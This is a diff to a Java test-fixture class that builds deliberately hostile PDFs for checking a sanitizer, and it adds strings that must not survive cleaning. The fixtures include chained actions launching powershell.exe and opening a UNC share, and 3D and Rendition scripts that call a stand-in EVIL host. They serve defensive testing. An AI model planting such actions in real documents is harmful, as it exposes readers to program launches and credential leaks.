@@ -284,11 +284,60 @@ final class ActiveFixtures {
       COSDictionary gotor = action("GoToR", "F", new COSString("\\\\" + EVIL + "\\share\\x.pdf"));
       COSDictionary launch = action("Launch", "F", new COSString("cmd.exe"));
       COSArray annots = new COSArray();
-      annots.add(link(10, action("URI", "URI", new COSString(WEB_LINK))));
+      COSDictionary web = action("URI", "URI", new COSString(WEB_LINK));
+      COSArray chain = new COSArray(); // a click on the web link would also launch a program and open a share
+      chain.add(action("Launch", "F", new COSString("powershell.exe")));
+      chain.add(action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\chained")));
+      web.setItem(COSName.NEXT, chain);
+      annots.add(link(10, web));
       annots.add(link(40, gotor));
       annots.add(link(70, launch));
       annots.add(link(100, action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\share"))));
       annots.add(link(130, action("SubmitForm", "F", new COSString("http://" + EVIL + "/submit"))));
+      // a Flash player with its movie, a 3D model whose script runs when it is shown, a screen
+      // that plays a rendition, a sound: each plays or runs something of its own
+      COSStream swf = doc.getDocument().createCOSStream();
+      try (var o = swf.createOutputStream()) {
+        o.write(ascii("FWS\u0009" + "RICHMEDIA-PAYLOAD http://" + EVIL + "/flash"));
+      }
+      COSDictionary asset = new COSDictionary();
+      asset.setName(COSName.TYPE, "Filespec");
+      asset.setString(COSName.F, "player.swf");
+      COSDictionary assetEf = new COSDictionary();
+      assetEf.setItem(COSName.F, swf);
+      asset.setItem(COSName.EF, assetEf);
+      COSArray assets = new COSArray();
+      assets.add(new COSString("player.swf"));
+      assets.add(asset);
+      COSDictionary assetTree = new COSDictionary();
+      assetTree.setItem(COSName.NAMES, assets);
+      COSDictionary content = new COSDictionary();
+      content.setItem(COSName.getPDFName("Assets"), assetTree);
+      COSDictionary richMedia = link(160, action("RichMediaExecute", null, null));
+      richMedia.setName(COSName.SUBTYPE, "RichMedia");
+      richMedia.setItem(COSName.getPDFName("RichMediaContent"), content);
+      annots.add(richMedia);
+      COSStream model = doc.getDocument().createCOSStream();
+      try (var o = model.createOutputStream()) {
+        o.write(ascii("U3D-MODEL-PAYLOAD"));
+      }
+      model.setName(COSName.TYPE, "3D");
+      model.setName(COSName.SUBTYPE, "U3D");
+      COSStream onInstantiate = doc.getDocument().createCOSStream();
+      try (var o = onInstantiate.createOutputStream()) {
+        o.write(ascii("host.getURL('http://" + EVIL + "/3d');"));
+      }
+      model.setItem(COSName.getPDFName("OnInstantiate"), onInstantiate);
+      COSDictionary threeD = link(190, action("GoTo3DView", null, null));
+      threeD.setName(COSName.SUBTYPE, "3D");
+      threeD.setItem(COSName.getPDFName("3DD"), model);
+      annots.add(threeD);
+      COSDictionary screen = link(220, action("Rendition", "JS", new COSString("app.launchURL('http://" + EVIL + "/r')")));
+      screen.setName(COSName.SUBTYPE, "Screen");
+      annots.add(screen);
+      COSDictionary sound = link(250, action("Sound", null, null));
+      sound.setName(COSName.SUBTYPE, "Sound");
+      annots.add(sound);
       page.getCOSObject().setItem(COSName.ANNOTS, annots);
       // a form with XFA (its own scripts and a submit address) and a field that submits
       COSStream xfa = doc.getDocument().createCOSStream();
@@ -337,6 +386,7 @@ final class ActiveFixtures {
 
   static List<String> pdfNeverAfterCleaning() {
     return List.of("/OpenAction", "/AA", "/GoToR", "/Launch", "/XFA", "/NeedsRendering", "/JavaScript", "/JS",
-        "/SubmitForm", "/EmbeddedFile", "This program cannot be run", EVIL);
+        "/SubmitForm", "/EmbeddedFile", "This program cannot be run", EVIL, "powershell", "/RichMedia", "RICHMEDIA-PAYLOAD",
+        "/3D", "U3D-MODEL-PAYLOAD", "OnInstantiate", "/Screen", "/Rendition", "/Sound", "GoTo3DView");
   }
 }
